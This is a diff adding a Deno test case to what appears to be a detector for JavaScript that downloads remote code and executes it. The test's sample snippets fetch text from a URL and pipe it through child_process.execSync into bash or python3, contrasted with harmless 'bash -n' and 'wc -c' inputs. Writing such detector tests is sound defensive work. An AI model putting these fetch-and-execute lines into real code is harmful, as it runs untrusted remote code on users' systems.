@@ -1259,6 +1259,18 @@ Deno.test("downloaded code run through Function's constructor, call or apply, or
   assertRunsOnlyIn(js, "mjs", ways, benign);
 });
 
+Deno.test("a download given as the input of a shell line that is an interpreter reading stdin is run", () => {
+  const js = 'const cp = require("child_process");\n' +
+    'const code = await (await fetch("https://get.notes-cloud.net/a")).text();\n';
+  assertRunsOnlyIn(js, "mjs", [
+    'cp.execSync("bash", { input: code });\n',
+    'cp.execSync("/usr/bin/python3 -", { input: code });\n',
+  ], [
+    'cp.execSync("bash -n", { input: code });\n',
+    'cp.execSync("wc -c", { input: code });\n',
+  ]);
+});
+
 Deno.test("a download handed to a callback and run there is run: promise chains, stream events, response callbacks", () => {
   const runs = downloadRuns;
   const url = '"https://get.notes-cloud.net/a"';
